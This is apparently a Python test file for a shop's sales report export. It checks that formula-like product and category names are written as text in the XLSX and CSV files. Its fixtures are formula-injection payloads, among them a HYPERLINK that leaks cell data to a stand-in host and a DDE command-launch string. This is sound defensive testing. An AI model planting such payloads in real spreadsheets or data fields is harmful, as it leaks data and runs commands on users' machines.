"""A sales report never hands the admin's spreadsheet a formula: a product or category name that starts like one
(from Mahak, or a staff member's name override) is written as text, in the XLSX and the CSV file alike, as
the catalogue export already does."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from hamgam.entrypoints.web.i18n import build_locale
from hamgam.entrypoints.web.report_files import csv_chunks, each, reports, xlsx_bytes

#: What a name can hold to make a spreadsheet fetch a page with the sheet's data (or worse, where DDE runs).
FORMULA = '=HYPERLINK("https://evil.example/?"&B3,"جزئیات")'
CATEGORY_FORMULA = "+cmd|' /C calc'!A0"


def product_rows() -> list[dict]:
    return [
        {"product_id": 1, "code": "@SUM(1+1)", "name": FORMULA, "quantity": 2, "orders": 1, "revenue_rial": 20},
        {"product_id": 2, "code": "P2", "name": "چای -ممتاز", "quantity": 1, "orders": 1, "revenue_rial": 10},
    ]


async def test_the_xlsx_report_writes_formula_like_names_as_text() -> None:
    locale = build_locale("fa")
    body = await xlsx_bytes(reports(locale)["product"], each(product_rows()), locale, period="۱۴۰۵/۰۱/۰۱")
    # no cell of the sheet is a formula
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    # and the names read back exactly as they were, as text
    values = list(openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].values)
    assert values[1][:2] == ("@SUM(1+1)", FORMULA)
    assert values[2][:2] == ("P2", "چای -ممتاز")


async def test_the_csv_report_quotes_formula_like_names() -> None:
    locale = build_locale("fa")
    rows = [{"name": CATEGORY_FORMULA, "quantity": 1, "orders": 1, "revenue_rial": 10}]
    text = b"".join([chunk async for chunk in csv_chunks(reports(locale)["category"], each(rows), locale)]).decode()
    line = text.split("\r\n")[1]
    assert line.startswith("\"'+cmd|' /C calc'!A0\",") or line.startswith("'+cmd|' /C calc'!A0,"), line
    products = b"".join(
        [chunk async for chunk in csv_chunks(reports(locale)["product"], each(product_rows()), locale)]
    ).decode()
    first, second = products.split("\r\n")[1:3]
    assert first.startswith("'@SUM(1+1),\"'=HYPERLINK("), first
    assert second.startswith("P2,چای -ممتاز,"), second
